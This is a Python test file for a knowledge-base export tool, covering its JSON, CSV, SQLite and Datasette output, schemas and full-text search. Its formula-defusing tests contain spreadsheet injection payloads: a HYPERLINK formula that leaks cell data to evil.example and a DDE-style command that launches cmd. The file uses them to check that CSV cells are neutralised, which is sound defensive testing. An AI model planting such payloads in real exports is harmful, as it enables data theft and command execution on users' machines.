"""`kb export`: JSON, CSV and SQLite (+ Datasette metadata) written from the real content.

JSON records are validated against ``schemas/<kind>.schema.json`` after removing the keys
the export adds (``page_url``, ``backlinks``, ``references``, a topic's ``body``): the schemas forbid unknown keys,
and the test also checks that those are the only additions.
"""
from __future__ import annotations

import csv
import json
import os
import re
import shutil
import socket
import sqlite3
import subprocess
import sys
import time
import urllib.parse
import urllib.request
from collections import Counter
from pathlib import Path
from typing import Annotated, Literal

import pytest
import yaml
from pydantic import Field

from generator.cli import main
from generator.export import FORMATS, Column, columns_of, export
from generator.export import sqlite as sqlite_export
from generator.export.csv import csv_cell
from generator.export.sqlite import DATABASE, METADATA
from generator.export.view import ADDED_KEYS, BODY
from generator import models
from generator.kinds import KINDS, Kind, facets_of, field_of
from generator.link import ORIGINS
from generator.models import Shown
from generator.pipeline import check
from generator.vocabulary import DEFAULT

REPO = Path(__file__).resolve().parent.parent
CONTENT = REPO / "content"
SCHEMAS = REPO / "schemas"
VALID = Path(__file__).parent / "fixtures" / "valid" / "content"

TRICKY = 'Comma, "double quotes", \'single\'; semicolon\nsecond line — naïve Zürich 東京 ✓\n\ttabbed, end'
TRICKY_ALIASES = ['Alias, with comma', 'Say "hi"', 'Ünïcödé 名前']
TRICKY_SUMMARY = 'A model stays naïve, "quiet" and, at first, harmless.\nThen it changes — über-careful.'


# ---------------------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def real():
    checked = check(CONTENT)
    assert checked.ok, [d.as_text() for d in checked.diagnostics]
    return checked


@pytest.fixture(scope="module")
def exported(real, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("data")
    written = export(real.graph, out, ["json", "csv", "sqlite"])
    names = {path.name for path in written}
    assert names == ({f"{k}.json" for k in KINDS} | {f"{k}.csv" for k in KINDS} | set(KINDS)
                     | {"all.json", DATABASE, METADATA, "schema.json"})
    assert all(path.parent == out and (path.is_file() or path.name in KINDS) for path in written)
    for kind in KINDS:
        per_record = {p.stem for p in (out / kind).glob("*.json")}
        assert per_record == {e.id for e in real.graph.by_kind(kind)}
        whole = {r["id"]: r for r in json.loads((out / f"{kind}.json").read_text())}
        sample = sorted(per_record)[0]
        assert json.loads((out / kind / f"{sample}.json").read_text()) == whole[sample]
    return out


@pytest.fixture(scope="module")
def db(exported):
    connection = sqlite3.connect(f"file:{exported / DATABASE}?mode=ro", uri=True)  # Datasette reads it too
    yield connection
    connection.close()


def per_kind(checked) -> dict[str, list]:
    return {kind: sorted(e.id for e in checked.entries if e.kind == kind) for kind in KINDS}


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def defused(text: str) -> str:
    """Text as the CSV export writes it: a leading formula character gets a quote before it."""
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


def unique_summary_word(checked) -> tuple[str, str]:
    """A word of one record's summary whose first five letters occur in no other record's name or
    summary, so that a full-text search for it (stemmed or not) must find exactly that record."""
    texts = {e.id: f"{e.name} {e.record.summary}".lower() for e in checked.entries}
    for entry in sorted(checked.entries, key=lambda e: e.id):
        for word in re.findall(r"[a-z]{8,}", entry.record.summary.lower()):
            if not any(word[:5] in text for other, text in texts.items() if other != entry.id):
                return word, entry.id
    pytest.fail("no record has a word of its own in its summary")


# ---------------------------------------------------------------------------- the export's schema


_VALIDATORS: dict = {}


def _export_validator(exported: Path, definition: str | None = None):
    """A validator of ``data/schema.json`` (the root: all.json; or one of its ``$defs``), made once."""
    import jsonschema

    key = (exported, definition)
    if key not in _VALIDATORS:
        schema = json.loads((exported / "schema.json").read_text(encoding="utf-8"))
        if definition is not None:
            schema = {"$schema": schema["$schema"], "$defs": schema["$defs"], "$ref": f"#/$defs/{definition}"}
        validator_type = jsonschema.Draft202012Validator
        validator_type.check_schema(schema)
        _VALIDATORS[key] = validator_type(schema, format_checker=validator_type.FORMAT_CHECKER), schema
    return _VALIDATORS[key]


def _errors(validator, instance) -> list[str]:
    return [f"{list(e.absolute_path)}: {e.message}" for e in validator.iter_errors(instance)][:5]


def _content_errors(exported: Path, row: dict, row_schema: dict) -> list[str]:
    """JSON Schema leaves contentSchema unchecked: parse each JSON cell and check it against the
    schema it names (``<record schema's $id>#/properties/<field>``)."""
    problems = []
    for column, spec in row_schema["properties"].items():
        if "contentSchema" not in spec or row[column] in ("", None):
            continue
        resource, _, field = spec["contentSchema"]["$ref"].partition("#/properties/")
        kind = resource.rpartition(":")[2]
        key = (exported, kind, field)
        if key not in _VALIDATORS:
            validator, schema = _export_validator(exported)
            record = schema["$defs"][kind]
            assert record["$id"] == resource and field == column, spec["contentSchema"]
            _VALIDATORS[key] = type(validator)({**record["properties"][field], "$defs": record.get("$defs", {})})
        problems += [f"{column}: {e}" for e in _errors(_VALIDATORS[key], json.loads(row[column]))]
    return problems


def test_the_export_schema_is_the_committed_one_and_is_valid(exported):
    """data/schema.json is what `kb schema` writes to schemas/export.schema.json (held there by
    kb schema --check), and a valid 2020-12 schema."""
    assert (exported / "schema.json").read_text(encoding="utf-8") == \
        (SCHEMAS / "export.schema.json").read_text(encoding="utf-8")
    _export_validator(exported)


def test_every_json_export_validates_against_the_export_schema(exported):
    everything, _ = _export_validator(exported)
    assert not _errors(everything, json.loads((exported / "all.json").read_text(encoding="utf-8")))
    for kind in KINDS:
        listed, _ = _export_validator(exported, f"{kind}.json")
        records = json.loads((exported / f"{kind}.json").read_text(encoding="utf-8"))
        assert not _errors(listed, records), kind
        # <kind>/<id>.json: each the record of the list, so valid as its item (checked once, above)
        assert {p.stem: json.loads(p.read_text(encoding="utf-8")) for p in (exported / kind).glob("*.json")} == \
            {r["id"]: r for r in records}
    # and the schema is not a blank cheque: a record without its page, or with a key of its own, fails
    system = json.loads(next((exported / "systems").glob("*.json")).read_text(encoding="utf-8"))
    one, _ = _export_validator(exported, "systems")
    assert _errors(one, {k: v for k, v in system.items() if k != "page_url"})
    assert _errors(one, {**system, "extra": 1}) and _errors(one, {**system, "backlinks": [{"source": 1}]})


def test_every_csv_row_validates_against_the_export_schema(exported):
    for kind in KINDS:
        validator, schema = _export_validator(exported, f"csv:{kind}")
        rows = read_csv(exported / f"{kind}.csv")
        assert rows
        for row in rows:
            assert not _errors(validator, row), (kind, row["id"])
            assert not _content_errors(exported, row, schema["$defs"][f"csv:{kind}"]), (kind, row["id"])


def test_every_sqlite_row_validates_against_the_export_schema(exported, db):
    tables = [name for (name,) in db.execute(
        "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'records_fts%' AND name NOT LIKE 'sqlite_%'")]
    _, schema = _export_validator(exported)
    assert {f"sqlite:{name}" for name in tables} == {d for d in schema["$defs"] if d.startswith("sqlite:")}
    for table in tables:
        validator, schema = _export_validator(exported, f"sqlite:{table}")
        cursor = db.execute(f'SELECT * FROM "{table}"')
        names = [column[0] for column in cursor.description]
        rows = [dict(zip(names, values)) for values in cursor]
        assert rows, table
        for row in rows:
            assert not _errors(validator, row), (table, row)
            assert not _content_errors(exported, row, schema["$defs"][f"sqlite:{table}"]), (table, row)


def test_sqlite_utils_finds_the_search_index_and_searches_articles(real, exported):
    """`sqlite-utils search` on the records table, with no metadata: a word of one record's
    summary finds that record, and a word only a topic's article has finds the topic."""
    tool = Path(sys.executable).parent / "sqlite-utils"
    word, expected = unique_summary_word(real)

    def search(query: str) -> list[str]:
        result = subprocess.run([str(tool), "search", str(exported / DATABASE), "records", query, "-c", "id"],
                                capture_output=True, text=True, timeout=60)
        assert result.returncode == 0, result.stderr
        return [row["id"] for row in json.loads(result.stdout)]

    assert search(word) == [expected]
    topic = next(e for e in real.entries if KINDS[e.kind].markdown and e.document.body)
    others = " ".join(f"{e.name} {e.record.summary}".lower() for e in real.entries)
    body_word = next(w for w in re.findall(r"[a-z]{9,}", topic.document.body.lower()) if w[:6] not in others)
    assert topic.id in search(body_word)


# ---------------------------------------------------------------------------- json


def test_json_has_one_record_per_record_in_id_order(real, exported):
    expected = per_kind(real)
    everything = json.loads((exported / "all.json").read_text(encoding="utf-8"))
    for kind, ids in expected.items():
        records = json.loads((exported / f"{kind}.json").read_text(encoding="utf-8"))
        assert [r["id"] for r in records] == ids
        assert everything["kinds"][kind] == records
    assert sum(len(ids) for ids in expected.values()) == len(real.entries) == 126


def test_json_records_validate_against_their_schema(exported):
    jsonschema = pytest.importorskip("jsonschema")
    for kind in KINDS:
        schema = json.loads((SCHEMAS / f"{kind}.schema.json").read_text(encoding="utf-8"))
        validator = jsonschema.Draft202012Validator(
            schema, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER)
        for record in json.loads((exported / f"{kind}.json").read_text(encoding="utf-8")):
            assert set(record) - set(KINDS[kind].model.model_fields) == set(ADDED_KEYS)
            bare = {key: value for key, value in record.items() if key not in ADDED_KEYS}
            errors = [f"{list(e.absolute_path)}: {e.message}" for e in validator.iter_errors(bare)]
            assert not errors, f"{kind}/{record['id']}: {errors}"
            assert record["page_url"] == f"{kind}/{record['id']}.html"


def test_json_backlinks_and_references_mirror_the_graph(real, exported):
    records = {r["id"]: r for kind in KINDS
               for r in json.loads((exported / f"{kind}.json").read_text(encoding="utf-8"))}
    graph = real.graph
    relations = json.loads((exported / "all.json").read_text(encoding="utf-8"))["relations"]
    edges = {(e.source, e.target, e.label, e.inverse, e.path)
             for edges in graph.outgoing.values() for e in edges}
    assert {(r["source"], r["target"], r["label"], r["inverse"], r["field"]) for r in relations} == edges
    assert len(relations) == len(edges)  # an edge stated twice is exported once
    for source, target, label, inverse, path in edges:
        assert {"target": target, "kind": graph.kind_of(target), "label": label,
                "field": path} in records[source]["references"]
        if source != target:
            assert {"source": source, "kind": graph.kind_of(source), "label": inverse} in records[target]["backlinks"]
    # A known kind of edge, read from both ends: a system and its developer.
    system = next(r for r in records.values() if r["page_url"].startswith("systems/") and r["developer"])
    assert {"target": system["developer"], "kind": "organizations", "label": "developed by",
            "field": "developer"} in system["references"]
    assert {"source": system["id"], "kind": "systems", "label": "develops"} in records[system["developer"]]["backlinks"]


# ---------------------------------------------------------------------------- csv


def test_csv_has_a_row_per_record_and_a_column_per_field(real, exported):
    for kind, ids in per_kind(real).items():
        path = exported / f"{kind}.csv"
        with path.open(newline="", encoding="utf-8") as handle:
            header = next(csv.reader(handle))
        assert set(header) == set(KINDS[kind].model.model_fields) | {"page_url", BODY}
        assert header[0] == "id" and header[-2:] == ["page_url", BODY]
        rows = read_csv(path)
        assert [row["id"] for row in rows] == ids


def test_csv_cells_give_back_the_records_text(real, exported):
    """Every text field reads back exactly (but for the quote that defuses a formula); lists of
    plain values and objects are JSON; a missing value or an empty list is an empty cell."""
    dumps = {e.id: e.record.model_dump(mode="json") for e in real.entries}
    for kind in KINDS:
        shapes = {column.name: column.shape for column in columns_of(KINDS[kind])}
        for row in read_csv(exported / f"{kind}.csv"):
            dump = dumps[row["id"]]
            for field, value in dump.items():
                cell = row[field]
                if value is None:
                    assert cell == ""
                elif shapes[field] == "list":
                    assert (json.loads(cell) if cell else []) == value
                elif shapes[field] == "json":
                    assert json.loads(cell) == value
                elif isinstance(value, str):
                    assert cell == defused(value), (row["id"], field)
                else:
                    assert type(value)(cell) == value


# ---------------------------------------------------------------------------- sqlite


def test_sqlite_row_counts_match_the_records(real, db):
    expected = per_kind(real)
    for kind, ids in expected.items():
        assert [r[0] for r in db.execute(f'SELECT id FROM "{kind}" ORDER BY id')] == ids
        assert db.execute("SELECT count(*) FROM records WHERE kind = ?", (kind,)).fetchone()[0] == len(ids)
    assert db.execute("SELECT count(*) FROM records").fetchone()[0] == len(real.entries)


def test_sqlite_every_relation_resolves(db):
    assert db.execute("PRAGMA foreign_key_check").fetchall() == []
    assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    assert db.execute("SELECT count(*) FROM relations").fetchone()[0] > 300
    missing = db.execute("""
        SELECT relations.source, relations.target FROM relations
        LEFT JOIN records AS target ON target.id = relations.target
        LEFT JOIN records AS source ON source.id = relations.source
        WHERE target.id IS NULL OR source.id IS NULL""").fetchall()
    assert missing == []
    missing = db.execute("""
        SELECT c.record_id, c.source_id FROM sources_cited AS c
        LEFT JOIN sources ON sources.id = c.source_id WHERE sources.id IS NULL""").fetchall()
    assert missing == []
    assert db.execute("SELECT count(*) FROM sources_cited").fetchone()[0] > 0


def test_sqlite_relations_match_the_graph(real, db):
    rows = set(db.execute("SELECT source, target, label, inverse, field FROM relations"))
    edges = {(e.source, e.target, e.label, e.inverse, e.path)
             for edges in real.graph.outgoing.values() for e in edges}
    assert rows == edges
    cited = set(db.execute("SELECT record_id, source_id, field FROM sources_cited"))
    assert cited == {(s, t, p) for s, t, _, _, p in edges if real.graph.kind_of(t) == "sources"}


def test_via_says_what_each_edge_is(real, exported, db):
    """``via`` is the edge's origin in the link stage, in the SQLite table and in all.json alike;
    the column accepts those five values only, and its description explains each."""
    origins = {(e.source, e.target, e.path): e.origin for edges in real.graph.outgoing.values() for e in edges}
    rows = list(db.execute("SELECT source, target, field, via FROM relations"))
    assert {(s, t, f): via for s, t, f, via in rows} == origins
    assert {via for *_, via in rows} == set(ORIGINS)  # the real base has every kind of edge
    relations = json.loads((exported / "all.json").read_text(encoding="utf-8"))["relations"]
    assert {(r["source"], r["target"], r["field"]): r["via"] for r in relations} == origins
    # a position's topic and a citation are no longer counted as plain fields
    topics_of_positions = {via for (_, _, path), via in origins.items()
                           if re.fullmatch(r"positions\[\d+\]\.topic", path)}
    assert topics_of_positions == {"position"}
    assert {via for (_, _, path), via in origins.items() if path.startswith("sources[")} == {"citation"}
    sql = db.execute("SELECT sql FROM sqlite_master WHERE name = 'relations'").fetchone()[0]
    assert "CHECK (via IN (" + ", ".join(f"'{origin}'" for origin in ORIGINS) + "))" in sql
    metadata = json.loads((exported / METADATA).read_text(encoding="utf-8"))
    described = metadata["databases"]["knowledge"]["tables"]["relations"]["columns"]["via"]
    assert all(f"{origin}: " in described for origin in ORIGINS)


def test_sqlite_columns_are_typed_and_references_are_foreign_keys(db):
    def types(table):
        return {row[1]: row[2] for row in db.execute(f'PRAGMA table_info("{table}")')}

    assert types("organizations")["founded"] == "INTEGER"
    assert types("risks")["severity"] == "TEXT"
    assert types("systems")["quality"] == "REAL"  # a rating may have one decimal
    assert types("sources")["year"] == "INTEGER"
    assert types("metrics")["estimate"] == "TEXT"  # a nested object, as JSON
    assert db.execute('SELECT pk FROM pragma_table_info(\'systems\') WHERE name = \'id\'').fetchone()[0] == 1
    keys = {(row[3], row[2]) for row in db.execute('PRAGMA foreign_key_list("systems")')}
    assert ("developer", "organizations") in keys and ("id", "records") in keys
    assert ("source", "sources") in {(r[3], r[2]) for r in db.execute('PRAGMA foreign_key_list("metrics")')}
    assert ("measures", "records") in {(r[3], r[2]) for r in db.execute('PRAGMA foreign_key_list("metrics")')}
    assert ("parent", "organizations") in {(r[3], r[2]) for r in db.execute('PRAGMA foreign_key_list("organizations")')}
    for table in ("relations", "sources_cited"):
        assert {row[2] for row in db.execute(f"PRAGMA foreign_key_list({table})")} <= {"records", "sources"}
    # JSON columns unnest with SQLite's JSON functions.
    tagged = db.execute("SELECT count(*) FROM systems, json_each(systems.tags)").fetchone()[0]
    assert tagged > 0


def test_sqlite_constraints_guard_the_tables(exported, tmp_path):
    copy = tmp_path / DATABASE
    shutil.copyfile(exported / DATABASE, copy)
    connection = sqlite3.connect(copy)
    try:
        connection.execute("PRAGMA foreign_keys = ON")
        with pytest.raises(sqlite3.IntegrityError):  # the scales are CHECK constraints
            connection.execute("UPDATE risks SET severity = 'apocalyptic'")
        with pytest.raises(sqlite3.IntegrityError):  # bounds too
            connection.execute("UPDATE systems SET quality = 101")
        with pytest.raises(sqlite3.IntegrityError):  # and references, at commit (deferred keys)
            with connection:
                connection.execute("UPDATE systems SET developer = 'no-such-organization' "
                                   "WHERE developer IS NOT NULL")
        connection.execute("INSERT INTO records_fts(records_fts, rank) VALUES ('integrity-check', 1)")
    finally:
        connection.close()


def test_sqlite_full_text_search_finds_the_record(real, db):
    word, record_id = unique_summary_word(real)
    found = [row[0] for row in db.execute(
        "SELECT records.id FROM records_fts JOIN records ON records.seq = records_fts.rowid "
        "WHERE records_fts MATCH ? ORDER BY rank", (word,))]
    assert found == [record_id]
    # Names are indexed too, and the index agrees with its content table.
    name = real.graph.entries[record_id].name
    found = {row[0] for row in db.execute(
        "SELECT records.id FROM records_fts JOIN records ON records.seq = records_fts.rowid "
        "WHERE records_fts MATCH ?", ('"' + name.replace('"', '""') + '"',))}
    assert record_id in found


def test_sqlite_export_with_a_broken_foreign_key_is_refused_and_never_placed(real, tmp_path):
    """The keys are not checked row by row while loading (SQLite would scan every child table for
    each parent row inserted after its children): ``foreign_key_check`` after the load must find
    nothing, or no file is placed."""
    from generator.export.view import View

    view = View(real.graph)
    system = next(entry.id for entry in view.kinds["systems"] if view.dumps[entry.id].get("developer"))
    view.dumps[system] = {**view.dumps[system], "developer": "an-organization-nobody-wrote"}
    out = tmp_path / "data"
    out.mkdir()
    with pytest.raises(RuntimeError, match="broke foreign keys"):
        sqlite_export.write(view, out)
    assert list(out.iterdir()) == []


def test_sqlite_file_is_replaced_atomically(real, tmp_path, monkeypatch):
    out = tmp_path / "data"
    export(real.graph, out, ["sqlite"])
    before = (out / DATABASE).read_bytes()

    def broken(data, path):
        path.write_bytes(b"half a database")
        raise RuntimeError("disk full")

    monkeypatch.setattr(sqlite_export, "_fill_database", broken)
    with pytest.raises(RuntimeError):
        export(real.graph, out, ["sqlite"])
    assert (out / DATABASE).read_bytes() == before
    assert sorted(p.name for p in out.iterdir()) == [DATABASE, METADATA, "schema.json"]  # no temporary left


def test_datasette_metadata_describes_every_column(exported, db):
    metadata = json.loads((exported / METADATA).read_text(encoding="utf-8"))
    assert metadata["title"] and metadata["description"] and metadata["license"] and metadata["source"]
    tables = metadata["databases"]["knowledge"]["tables"]
    assert tables["records"]["fts_table"] == "records_fts"
    assert tables["records"]["fts_pk"] == "seq"
    for table, meta in tables.items():
        columns = [row[1] for row in db.execute(f'PRAGMA table_info("{table}")')]
        assert set(meta["columns"]) == set(columns), table
        assert all(meta["columns"].values()), table
        assert meta["description"]
        for facet in meta.get("facets", []):
            column = facet if isinstance(facet, str) else next(iter(facet.values()))
            assert column in columns, (table, facet)
    assert "severity" in tables["risks"]["facets"]
    assert "effectiveness" in tables["responses"]["facets"]
    assert "type" in tables["organizations"]["facets"]
    assert "kind" in tables["sources"]["facets"] and "kind" in tables["records"]["facets"]


def test_datasette_metadata_reads_descriptions_and_facets_from_the_models(exported):
    """Each column of a kind's table is described by its field's pydantic description (a fixed
    set of values listed after it), and the facets are the fields the models mark as facets."""
    metadata = json.loads((exported / METADATA).read_text(encoding="utf-8"))
    tables = metadata["databases"]["knowledge"]["tables"]
    for kind in KINDS.values():
        columns = tables[kind.folder]["columns"]
        for column in columns_of(kind):
            spec = field_of(kind.model, column.name)
            assert columns[column.name].startswith(spec.description), (kind.folder, column.name)
            for value in spec.values(DEFAULT):
                assert value in columns[column.name]
        assert tables[kind.folder]["facets"] == facets_of(kind)
    assert tables["metrics"]["columns"]["as_of"] == field_of(KINDS["metrics"].model, "as_of").description
    assert tables["risks"]["columns"]["severity"].endswith("lowest first: low, low-medium, medium, medium-high, "
                                                          "high, critical, catastrophic, existential, unknown.")


# ---------------------------------------------------------------------------- awkward text


@pytest.fixture
def tricky(tmp_path) -> Path:
    """The valid fixture tree with one risk whose text has commas, quotes, newlines and non-ASCII."""
    root = tmp_path / "content"
    shutil.copytree(VALID, root)
    path = root / "risks" / "deceptive-alignment.yaml"
    record = yaml.safe_load(path.read_text(encoding="utf-8"))
    record.update(description=TRICKY, evidence=TRICKY.replace("\n", "\r\n"), summary=TRICKY_SUMMARY,
                  aliases=TRICKY_ALIASES, name="Täuschung, \"deceptive\" alignment")
    path.write_text(yaml.safe_dump(record, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return root


def test_awkward_text_round_trips_through_every_format(tricky, tmp_path):
    checked = check(tricky)
    assert checked.ok, [d.as_text() for d in checked.diagnostics]
    record = checked.graph.entries["deceptive-alignment"].record
    out = tmp_path / "data"
    export(checked.graph, out, ["json", "csv", "sqlite"])

    (row,) = [r for r in read_csv(out / "risks.csv") if r["id"] == "deceptive-alignment"]
    assert row["description"] == TRICKY
    assert row["evidence"] == record.evidence  # whatever the loader made of CRLF, byte for byte
    assert row["summary"] == TRICKY_SUMMARY
    assert row["name"] == "Täuschung, \"deceptive\" alignment"
    assert json.loads(row["aliases"]) == TRICKY_ALIASES
    assert json.loads(row["likelihood"]) == record.likelihood.model_dump(mode="json")

    text = (out / "risks.json").read_text(encoding="utf-8")
    assert "naïve Zürich 東京" in text  # not ASCII-escaped
    (saved,) = json.loads(text)
    assert saved["description"] == TRICKY and saved["aliases"] == TRICKY_ALIASES

    with sqlite3.connect(out / DATABASE) as connection:
        assert connection.execute("SELECT description, aliases FROM risks").fetchone() == (
            TRICKY, json.dumps(TRICKY_ALIASES, ensure_ascii=False, separators=(",", ":")))
        found = [r[0] for r in connection.execute(
            "SELECT records.id FROM records_fts JOIN records ON records.seq = records_fts.rowid "
            "WHERE records_fts MATCH 'naive'")]
        assert found == ["deceptive-alignment"]  # accents are folded: naive finds naïve


FORMULAS = {  # text an editor may type that a spreadsheet would run
    "name": '=HYPERLINK("https://evil.example/?x="&A1,"GPT-4")',
    "summary": "-1+1|cmd",
    "capability": "+SUM(1,2)",
    "achievement": "@SUM(A1:A9)",
    "limitations": "\tstarts with a tab",
    "significance": "\rstarts with a carriage return",
}
FORMULA_ALIASES = ["-5", "plain alias", "=1+1"]  # "-5" is text here: an alias, not a number
FORMULA_NOTE = "=cmd|' /C calc'!A0"


@pytest.fixture
def formulas(tmp_path) -> Path:
    """The valid fixture tree with formula-like text in a system and a negative figure in a metric."""
    root = tmp_path / "content"
    shutil.copytree(VALID, root)
    path = root / "systems" / "gpt-4.yaml"
    record = yaml.safe_load(path.read_text(encoding="utf-8"))
    record.update(FORMULAS, aliases=FORMULA_ALIASES)
    record["relations"][0]["note"] = FORMULA_NOTE
    path.write_text(yaml.safe_dump(record, allow_unicode=True, sort_keys=False), encoding="utf-8")
    path = root / "metrics" / "training-compute-doubling.yaml"
    record = yaml.safe_load(path.read_text(encoding="utf-8"))
    record["estimate"].update(value=-0.5, low=-1, high=0)
    path.write_text(yaml.safe_dump(record, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return root


def test_csv_defuses_formulas_and_json_and_sqlite_keep_the_text(formulas, tmp_path):
    checked = check(formulas)
    assert checked.ok, [d.as_text() for d in checked.diagnostics]
    record = checked.graph.entries["gpt-4"].record
    assert {field: getattr(record, field) for field in FORMULAS} == FORMULAS  # loaded as written
    out = tmp_path / "data"
    export(checked.graph, out, ["json", "csv", "sqlite"])

    with (out / "systems.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    header = rows[0]
    (row,) = [dict(zip(header, r)) for r in rows[1:] if r[0] == "gpt-4"]
    assert {field: row[field] for field in FORMULAS} == {
        "name": '\'=HYPERLINK("https://evil.example/?x="&A1,"GPT-4")',
        "summary": "'-1+1|cmd",
        "capability": "'+SUM(1,2)",
        "achievement": "'@SUM(A1:A9)",
        "limitations": "'\tstarts with a tab",
        "significance": "'\rstarts with a carriage return",
    }
    assert row["aliases"] == '["-5","plain alias","=1+1"]'  # starts with '[': no formula, items exact
    relations = json.loads(row["relations"])  # a JSON cell starts with '[': exact, and parses
    assert relations[0]["note"] == FORMULA_NOTE
    assert row["quality"] == "70" and row["id"] == "gpt-4"  # numbers and plain text untouched
    (metric,) = read_csv(out / "metrics.csv")
    assert json.loads(metric["estimate"])["value"] == -0.5 and '"value":-0.5' in metric["estimate"]

    (saved,) = [r for r in json.loads((out / "systems.json").read_text(encoding="utf-8")) if r["id"] == "gpt-4"]
    assert {field: saved[field] for field in FORMULAS} == FORMULAS
    assert saved["aliases"] == FORMULA_ALIASES and saved["relations"][0]["note"] == FORMULA_NOTE
    with sqlite3.connect(out / DATABASE) as connection:
        columns = ", ".join(FORMULAS)
        assert connection.execute(f"SELECT {columns} FROM systems WHERE id = 'gpt-4'").fetchone() == tuple(
            FORMULAS.values())
        aliases, relations = connection.execute(
            "SELECT aliases, relations FROM systems WHERE id = 'gpt-4'").fetchone()
        assert json.loads(aliases) == FORMULA_ALIASES and json.loads(relations)[0]["note"] == FORMULA_NOTE
        assert connection.execute("SELECT name FROM records WHERE id = 'gpt-4'").fetchone()[0] == FORMULAS["name"]
        assert json.loads(connection.execute("SELECT estimate FROM metrics").fetchone()[0])["value"] == -0.5


def test_csv_defuses_by_the_values_type_not_its_look():
    """A number stays a number, even negative; text that looks like one is defused."""
    number = Column("value", "REAL", "scalar", True, None)
    text = Column("note", "TEXT", "scalar", True, None)
    plain = Column("aliases", "TEXT", "list", False, None)
    assert csv_cell(number, -0.5) == "-0.5" and csv_cell(Column("n", "INTEGER", "scalar", True, None), -3) == "-3"
    assert csv_cell(text, "-5") == "'-5" and csv_cell(text, "-1+1|cmd") == "'-1+1|cmd"
    assert csv_cell(text, "'=already quoted") == "'=already quoted" and csv_cell(text, "a-b") == "a-b"
    assert csv_cell(text, "") == "" and csv_cell(text, None) == ""
    assert csv_cell(plain, [-1, "x"]) == '[-1,"x"]' and csv_cell(plain, [True]) == "[true]"
    assert csv_cell(plain, []) == ""


def test_a_csv_list_item_holding_the_old_separator_stays_one_item():
    """Items were joined with '; ': ["Alpha; Beta", "Gamma"] read back as three values."""
    plain = Column("aliases", "TEXT", "list", False, None)
    assert json.loads(csv_cell(plain, ["Alpha; Beta", "Gamma"])) == ["Alpha; Beta", "Gamma"]


def test_only_the_asked_formats_are_written(tricky, tmp_path):
    graph = check(tricky).graph
    out = tmp_path / "data"
    written = export(graph, out, ["csv"])
    assert {p.suffix for p in written[:-1]} == {".csv"} and len(written) == len(KINDS) + 1
    assert written[-1] == out / "schema.json"  # with any format, the schema of them all
    assert sorted(p.name for p in out.iterdir()) == sorted(p.name for p in written)
    assert export(graph, out, []) == []
    with pytest.raises(ValueError, match="xml"):
        export(graph, out, ["xml"])


def test_each_format_is_a_module_listed_once():
    assert list(FORMATS) == ["json", "csv", "sqlite"]
    assert {name: writer.__module__ for name, writer in FORMATS.items()} == {
        name: f"generator.export.{name}" for name in FORMATS}


def test_a_new_format_is_one_writer_and_one_line_in_the_table(tricky, tmp_path, monkeypatch):
    """A format added here, as a module would add it: a writer of the shared view and a line in
    ``FORMATS``. ``export`` writes it, alone or with the others, and names it when refusing."""
    def write_ndjson(view, out):
        lines = [json.dumps(view.json_record(entry), ensure_ascii=False)
                 for entries in view.kinds.values() for entry in entries]
        path = out / "records.ndjson"
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
        return [path]

    monkeypatch.setitem(FORMATS, "ndjson", write_ndjson)
    graph = check(tricky).graph
    out = tmp_path / "data"
    assert export(graph, out, ["ndjson"]) == [out / "records.ndjson", out / "schema.json"]
    records = [json.loads(line) for line in (out / "records.ndjson").read_text(encoding="utf-8").splitlines()]
    assert len(records) == len(graph.entries) and all(r["page_url"] for r in records)
    written = export(graph, out, ["ndjson", "csv"])
    assert written[-2] == out / "records.ndjson" and len(written) == len(KINDS) + 2  # in the table's order
    with pytest.raises(ValueError, match="choose from json, csv, sqlite, ndjson"):
        export(graph, out, ["xml"])


class Dataset(models.Named):
    """A kind the registry gains at run time (as tests/test_new_kind.py declares one)."""

    licence: Annotated[Literal["open", "closed"], Shown(facet=True)] = Field(description="Its licence.")


def test_a_kind_registered_at_run_time_gets_its_table(tricky, tmp_path, monkeypatch):
    monkeypatch.setitem(KINDS, "datasets", Kind("datasets", "dataset", "Datasets", Dataset, "#37474f", ("licence",)))
    out = tmp_path / "data"
    export(check(tricky).graph, out, ["sqlite"])
    with sqlite3.connect(out / DATABASE) as connection:
        assert "licence" in {row[1] for row in connection.execute('PRAGMA table_info("datasets")')}
        sql = connection.execute("SELECT sql FROM sqlite_master WHERE name = 'records'").fetchone()[0]
        assert "'datasets'" in sql  # the kinds of the records table are those registered when writing
    tables = json.loads((out / METADATA).read_text(encoding="utf-8"))["databases"]["knowledge"]["tables"]
    assert tables["datasets"]["facets"] == ["licence", "status", {"array": "tags"}]
    assert tables["datasets"]["columns"]["licence"] == "Its licence. One of: open, closed."


def test_kb_export_command(tricky, tmp_path, capsys):
    out = tmp_path / "data"
    assert main(["export", "--content", str(tricky), "--out", str(out), "--format", "json",
                 "--format", "sqlite"]) == 0
    printed = capsys.readouterr().out.split()
    assert {Path(p).name for p in printed} == ({f"{k}.json" for k in KINDS} | set(KINDS)
                                               | {"all.json", DATABASE, METADATA, "schema.json"})


# ---------------------------------------------------------------------------- datasette


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def _get_json(url: str) -> dict:
    with urllib.request.urlopen(url, timeout=10) as response:
        return json.load(response)


@pytest.fixture(scope="module")
def datasette(exported, tmp_path_factory):
    pytest.importorskip("datasette", reason="datasette is not installed: pip install datasette==0.65.5 "
                                            "(the test extra of pyproject.toml)")
    port = _free_port()
    logs = tmp_path_factory.mktemp("datasette")
    stdout, stderr = (logs / "stdout.txt").open("wb"), (logs / "stderr.txt").open("wb")
    process = subprocess.Popen(
        [sys.executable, "-m", "datasette", "serve", str(exported / DATABASE),
         "--metadata", str(exported / METADATA), "--port", str(port), "--host", "127.0.0.1"],
        stdout=stdout, stderr=stderr, env={**os.environ, "PYTHONUNBUFFERED": "1"})
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 60
        while True:
            if process.poll() is not None:
                pytest.fail(f"datasette exited with {process.returncode}:\n"
